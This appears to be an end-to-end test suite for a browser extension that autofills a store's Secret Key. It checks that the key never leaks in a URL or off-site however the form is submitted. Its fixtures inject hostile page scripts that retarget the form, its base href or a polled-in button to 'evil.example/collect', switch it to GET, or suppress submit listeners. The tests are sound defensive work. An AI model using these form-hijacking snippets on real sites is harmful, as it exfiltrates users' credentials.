import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { DURUM_FORMS, DURUM_TOGGLES, type DurumToggle } from '../corpus/durum-toggles';
import { JOOM_APPS, JOOM_STORES, type JoomStore } from '../panels/data';
import { customPages, requestsSeen } from '../panels/routes';
import { BROWSER, browserForSuite, type TestPage } from './drivers';
import { endCase, pushFromPopup, readJoomOnce } from './steps';

// Issue 16 item 3, judged again at the moment of sending: the form qualified when it was filled, but markup may
// change after (a message polled in with a submitter of its own, a <base href> under a relative action), and a form
// that says no method GETs on Enter unless the page's own script sends it. The Secret Key we filled never leaves in
// a URL or for another origin, whatever path submits the form: a click on Kaydet, Enter in a field, a page script's
// requestSubmit() or form.submit() (which fires no submit event), with or without a page listener that stops the
// submit event before ours (at the form, or earlier in the window's capture). A same-origin POST still carries it;
// a page that sends its form itself (an SPA) is left alone. What the request routing received is the proof.
// The second adversarial review found the first ways (attack2, finding 4); the third review the paths around the
// submit event: on de0a4bc 12 of the 28 generated cases sent the secret in a URL or off-site.

const [store] = JOOM_STORES as [JoomStore];
const [app] = JOOM_APPS as [(typeof JOOM_APPS)[0]];
const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const SITE = 'https://app.shopiverse.tech/';

/** A Joom store's Api Tanım form whose <form> says `formAttributes`, with `extra` inside it and `script` on the page. */
const page = (opts: { formAttributes?: string; extra?: string; script?: string; status?: string } = {}) =>
  '<!doctype html><html lang="tr"><head><meta charset="utf-8"><title>ShopiVerse</title></head><body><main>' +
  `<div>Joom(Joom) Mağazasına ait düzenleme yapmaktasınız. ('00159' kodlu mağaza)</div>` +
  `<form id="api"${opts.formAttributes ?? ''}>${opts.status ?? '<div><input type="checkbox" name="status"><span>Durum</span></div>'}` +
  '<div><div>Secret Key</div><input name="secret" placeholder="Secret Key"></div>' +
  '<div><div>Client Id</div><input name="clientId" placeholder="Client Id"></div>' +
  '<div><div>Store Id</div><input name="storeId" placeholder="Store Id"></div>' +
  `<button type="submit" id="save">Kaydet</button>${opts.extra ?? ''}</form></main>${opts.script ? `<script>${opts.script}</script>` : ''}</body></html>`;

const PATHS = ['click', 'enter', 'requestSubmit', 'submit'] as const;
const TARGETS = ['post', 'offsiteBase', 'offsiteAction', 'offsiteFormaction', 'getDefault', 'getMethod', 'getFormmethod'] as const;
const STOPS = ['none', 'stopPropagation', 'stopImmediateCapture'] as const;
type SubmitPath = (typeof PATHS)[number];
type Target = (typeof TARGETS)[number];
type Stop = (typeof STOPS)[number];
interface SubmitCase {
  path: SubmitPath;
  target: Target;
  stop: Stop;
}

/** Every path with every target; which page listener stops the submit event drawn for each (seeded). */
const CASES: SubmitCase[] = PATHS.flatMap((path, p) =>
  TARGETS.map((target, t) => ({ path, target, stop: fc.sample(fc.constantFrom(...STOPS), { numRuns: 1, seed: 1600 + p * 10 + t })[0] as Stop })),
);

/** What the markup says once it changed after the fill (run in the page, as a script or a polled-in message would). */
const CHANGES: Record<Target, string> = {
  post: '',
  offsiteBase: "const b = document.createElement('base'); b.href = 'https://evil.example/x/'; document.head.append(b);",
  offsiteAction: "form.setAttribute('action', 'https://evil.example/collect');",
  offsiteFormaction: "save.setAttribute('formaction', 'https://evil.example/collect');",
  getDefault: "form.removeAttribute('method');",
  getMethod: "form.setAttribute('method', 'get');",
  getFormmethod: "save.setAttribute('formmethod', 'get');",
};
const STOP_SCRIPTS: Record<Stop, string> = {
  none: '',
  stopPropagation: "document.getElementById('api').addEventListener('submit', (e) => e.stopPropagation());",
  // Registered while the page loads, before the content script: it runs first, and stops every later listener.
  stopImmediateCapture: "window.addEventListener('submit', (e) => e.stopImmediatePropagation(), true);",
};

/**
 * The known answer. Kaydet's click and Enter submit by Kaydet (its formaction and formmethod count); a script's
 * requestSubmit() and submit() by the form alone. Off-site or GET: the secret is withheld. Otherwise a POST back to
 * ShopiVerse carries it, unless the guard cannot know the submitter (form.submit() fires no submit event; a listener
 * stopped it before ours): then it judges every way the form could send, and withholds if any would leave.
 */
function expected(c: SubmitCase): 'carried' | 'withheld' {
  const bySave = c.path === 'click' || c.path === 'enter';
  const offsite = c.target === 'offsiteBase' || c.target === 'offsiteAction' || (c.target === 'offsiteFormaction' && bySave);
  const inUrl = c.target === 'getDefault' || c.target === 'getMethod' || (c.target === 'getFormmethod' && bySave);
  if (offsite || inUrl) return 'withheld';
  const submitterKnown = c.path !== 'submit' && c.stop !== 'stopImmediateCapture';
  return submitterKnown || c.target === 'post' ? 'carried' : 'withheld';
}

async function submitBy(form: TestPage, path: SubmitPath): Promise<void> {
  if (path === 'click') return form.clickText('Kaydet', 'button');
  if (path === 'enter') {
    await form.evaluate(() => (document.querySelector('input[name="clientId"]') as HTMLInputElement).focus());
    return form.press('Enter');
  }
  // From the page's own script, a moment later (the navigation must not cut the test's call short).
  await form.evaluate((how) => {
    const api = document.getElementById('api') as HTMLFormElement;
    setTimeout(() => (how === 'submit' ? api.submit() : api.requestSubmit()), 0);
  }, path);
}

/**
 * "Durum" drawn every way (tests/corpus/durum-toggles.ts), each in a <form> drawn among no method, a POST back and a
 * POST to another path (seeded): the fourth review's finding 2, where our own tick submitted the form.
 */
const TOGGLE_CASES = (Object.keys(DURUM_TOGGLES) as DurumToggle[]).map((toggle, i) => ({
  toggle,
  form: fc.sample(fc.constantFrom(...DURUM_FORMS), { numRuns: 1, seed: 1640 + i })[0] as string,
}));

/** In the page: its switch flips on click, and every submit or reset no one prevented is written down. */
const TOGGLE_SCRIPT =
  "const toggle = document.getElementById('status'); if (!(toggle instanceof HTMLInputElement && toggle.type === 'checkbox')) toggle.addEventListener('click', () => toggle.setAttribute('aria-checked', String(toggle.getAttribute('aria-checked') !== 'true'))); " +
  "window.__sent = []; for (const type of ['submit', 'reset']) window.addEventListener(type, (e) => setTimeout(() => e.defaultPrevented || window.__sent.push(type)));";

describe(`the Secret Key we filled never leaves in a URL or for another site, whatever submits the form (${BROWSER})`, () => {
  const driver = browserForSuite({ lang: 'tr' });
  const ready = readJoomOnce(driver, store, app);
  const opened: TestPage[] = [];
  let n = 0;
  afterEach(async () => {
    await endCase(driver(), opened);
    customPages.clear();
  });

  /** Serve `html`, fill it by a push from the popup, and return the form's tab. */
  async function filled(html: string): Promise<{ form: TestPage; url: string }> {
    await ready();
    const url = `${SITE}tr/guard/${++n}/api`;
    customPages.set(url, html);
    const form = await driver().open(url);
    opened.push(form);
    await form.waitFor(() => document.querySelector('input[name="secret"]') !== null);
    const popup = await driver().popup();
    opened.push(popup);
    expect(await pushFromPopup(popup)).toBe('filled');
    await form.bringToFront();
    return { form, url };
  }

  /** What left: no request holds the secret in its address, none to another origin holds it at all. */
  function assertNoLeak(form: TestPage): void {
    for (const request of requestsSeen) {
      expect(request.url, `${request.method} ${request.url}`).not.toContain(app.secret);
      if (!request.url.startsWith(SITE)) expect(request.body, `${request.method} ${request.url}`).not.toContain(app.secret);
    }
    expect(form.url()).not.toContain(app.secret);
  }

  it.each(CASES.map((c) => [`${c.path} × ${c.target} × ${c.stop}: ${expected(c)}`, c] as const))('%s', { timeout: 120_000 }, async (_name, c) => {
    const script = `${STOP_SCRIPTS[c.stop]} window.__change = () => { const form = document.getElementById('api'); const save = document.getElementById('save'); ${CHANGES[c.target]} };`;
    const { form } = await filled(page({ formAttributes: ' method="post" action="kaydet"', script }));
    await form.evaluate(() => (window as unknown as { __change(): void }).__change());
    requestsSeen.length = 0;
    await submitBy(form, c.path);
    await wait(2500);
    assertNoLeak(form);
    const posted = requestsSeen.filter((r) => r.method === 'POST' && r.url.startsWith(SITE) && r.url.endsWith('/kaydet'));
    if (expected(c) === 'carried') expect(posted.map((r) => r.body).join('\n')).toContain(`secret=${app.secret}`);
    else expect(requestsSeen.some((r) => r.body.includes(app.secret))).toBe(false);
  });

  it.each(TOGGLE_CASES.map((c) => [`Durum as ${c.toggle} in <form${c.form}>: ${DURUM_TOGGLES[c.toggle][1] ? 'ticked' : 'left to the seller'}`, c] as const))(
    '%s; the fill sends nothing and stays on the page',
    { timeout: 120_000 },
    async (_name, c) => {
      const [status, safe] = DURUM_TOGGLES[c.toggle];
      await ready();
      const url = `${SITE}tr/guard/${++n}/api`;
      customPages.set(url, page({ formAttributes: c.form, status, script: TOGGLE_SCRIPT }));
      const form = await driver().open(url);
      opened.push(form);
      await form.waitFor(() => document.querySelector('input[name="secret"]') !== null);
      const popup = await driver().popup();
      opened.push(popup);
      requestsSeen.length = 0;
      expect(await pushFromPopup(popup)).toBe('filled');
      await form.bringToFront();
      await wait(1500);
      // Nothing went anywhere: no submission, no link followed, no reload of the page.
      expect(requestsSeen.filter((r) => !r.url.endsWith('/favicon.ico')).map((r) => `${r.method} ${r.url}`)).toEqual([]);
      expect(form.url()).toBe(url);
      const state = (await form.evaluate(() => {
        const toggle = document.getElementById('status') as HTMLElement;
        return {
          sent: (window as unknown as { __sent: string[] }).__sent,
          values: ['secret', 'clientId', 'storeId'].map((name) => (document.querySelector(`input[name="${name}"]`) as HTMLInputElement).value),
          ticked: toggle instanceof HTMLInputElement && toggle.type === 'checkbox' ? toggle.checked : toggle.getAttribute('aria-checked') === 'true',
        };
      })) as { sent: string[]; values: string[]; ticked: boolean };
      expect(state).toEqual({ sent: [], values: [app.secret, app.clientId, store.id], ticked: safe });
      // The note beside Kaydet asks the seller to tick Durum when we did not.
      const note = (await form.ourUi('save-hint')).join('|');
      if (safe) expect(note).toMatch(/dolduruldu: kontrol/);
      else expect(note).toMatch(/Durum.*kendiniz/);
    },
  );

  it('has every path, every target and every stopping listener among the cases, and both answers', () => {
    expect(new Set(CASES.map((c) => c.stop))).toEqual(new Set(STOPS));
    expect(new Set(CASES.map(expected))).toEqual(new Set(['carried', 'withheld']));
  });

  it('a submitter polled in after the fill, sending the form to another site: stopped, and the page says why', { timeout: 120_000 }, async () => {
    const { form } = await filled(
      page({
        // Arrives once the form holds the values, as a message polled in after the fill would.
        script:
          "const poll = setInterval(() => { if (!document.querySelector('input[name=secret]').value) return; clearInterval(poll); const b = document.createElement('button'); b.setAttribute('form', 'api'); b.setAttribute('formaction', 'https://evil.example/collect'); b.setAttribute('formmethod', 'post'); b.textContent = 'Yanıtla'; document.querySelector('main').append(b); }, 200);",
      }),
    );
    await wait(1000);
    requestsSeen.length = 0;
    await form.clickText('Yanıtla', 'button');
    await wait(1500);
    assertNoLeak(form);
    expect(form.url().startsWith(SITE)).toBe(true);
    expect((await form.ourUi('submit-stopped')).join('|')).toMatch(/durduruldu/);
  });

  it('a native form that says no method: Kaydet would GET ?secret=… into the address, and is stopped', { timeout: 120_000 }, async () => {
    const { form } = await filled(page());
    requestsSeen.length = 0;
    await form.clickText('Kaydet', 'button');
    await wait(1500);
    assertNoLeak(form);
    expect((await form.ourUi('submit-stopped')).join('|')).toMatch(/durduruldu/);
  });

  it('an SPA that sends the form by its own script, from a FormData of it, is left alone', { timeout: 120_000 }, async () => {
    const { form } = await filled(
      page({
        // React 19's form actions and many hand-written handlers: prevent the native submission, post a FormData.
        script:
          "document.getElementById('api').addEventListener('submit', (e) => { e.preventDefault(); fetch('/tr/guard/spa/kaydet', { method: 'POST', body: new URLSearchParams(new FormData(e.target)) }).then(() => { document.body.dataset.sent = '1'; }); });",
      }),
    );
    requestsSeen.length = 0;
    await form.clickText('Kaydet', 'button');
    await form.waitFor(() => document.body.dataset.sent === '1');
    assertNoLeak(form);
    expect((await form.ourUi('submit-stopped')).join('|')).toBe('');
    expect(requestsSeen.filter((r) => r.url.endsWith('/spa/kaydet')).map((r) => r.body)).toEqual([expect.stringContaining(`secret=${app.secret}`)]);
  });
});
